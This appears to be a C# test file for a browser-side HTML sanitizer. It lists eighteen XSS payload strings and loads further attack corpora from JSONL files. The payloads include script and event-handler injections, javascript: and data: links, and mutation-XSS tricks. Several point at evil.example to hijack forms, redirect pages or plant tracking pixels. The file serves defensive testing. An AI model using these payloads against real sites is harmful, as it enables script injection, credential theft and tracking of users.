using System.Text.Json;

namespace Stemma.Tests.Browser;

/// <summary>Strings that try to run something where they are shown: a few of our own, and the corpora of the evaluation data where they are to be had.</summary>
internal static class Attacks
{
    /// <summary>Our own: one of each kind.</summary>
    public static readonly IReadOnlyList<(string Id, string Html)> Own =
    [
        ("handler", "<img src=nowhere onerror=alert(1)>"),
        ("script", "<script>alert(1)</script>"),
        ("svg", "<svg onload=alert(1)><script>alert(2)</script></svg>"),
        ("link", "<a href=\"javascript:alert(1)\">read on</a>"),
        ("split link", "<a href=\"jav&#x09;ascript&colon;alert(1)\">read on</a>"),
        ("data link", "<a href=\"data:text/html,<script>alert(1)</script>\">read on</a>"),
        ("attribute", "\"><img src=nowhere onerror=alert(1)>"),
        ("single", "' autofocus onfocus=alert(1) x='"),
        ("title end", "</title><script>alert(1)</script>"),
        ("style end", "</style></textarea></noscript><script>alert(1)</script>"),
        ("math", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"),
        ("frame", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
        ("form", "<form action=https://evil.example/><button>Log in</button></form><base href=https://evil.example/>"),
        ("meta", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">"),
        ("tracker", "<p>Text<img src=https://evil.example/pixel.gif width=1 height=1><video src=https://evil.example/a.mp4 autoplay></video>"),
        ("css", "<p style=\"background:url(https://evil.example/x)\">Text</p><link rel=stylesheet href=https://evil.example/x.css>"),
        ("comment", "<!--><img src=nowhere onerror=alert(1)>-->"),
        ("template", "<template><script>alert(1)</script></template><details open ontoggle=alert(1)>x</details>"),
    ];

    /// <summary>The corpora; empty where they are not to be had.</summary>
    public static IReadOnlyList<(string Id, string Html)> Corpora()
    {
        var at = new DirectoryInfo(Checkout.Root);
        while (at is not null && !Directory.Exists(Path.Combine(at.FullName, "shared", "eval", "security"))) at = at.Parent;
        if (at is null)
        {
            Console.WriteLine("skipped: the attack corpora are not here; our own few are tried");
            return [];
        }
        string folder = Path.Combine(at.FullName, "shared", "eval", "security");
        return [.. new[] { "xss_own", "xss_owasp", "xss_dompurify", "sanitize_miniflux" }.SelectMany(f => File.ReadLines(Path.Combine(folder, f + ".jsonl"))).Where(l => l.Length > 0).Select(Row)];
    }

    private static (string, string) Row(string line)
    {
        using var json = JsonDocument.Parse(line);
        return (json.RootElement.GetProperty("id").GetString()!, json.RootElement.GetProperty("input").GetString()!);
    }
}
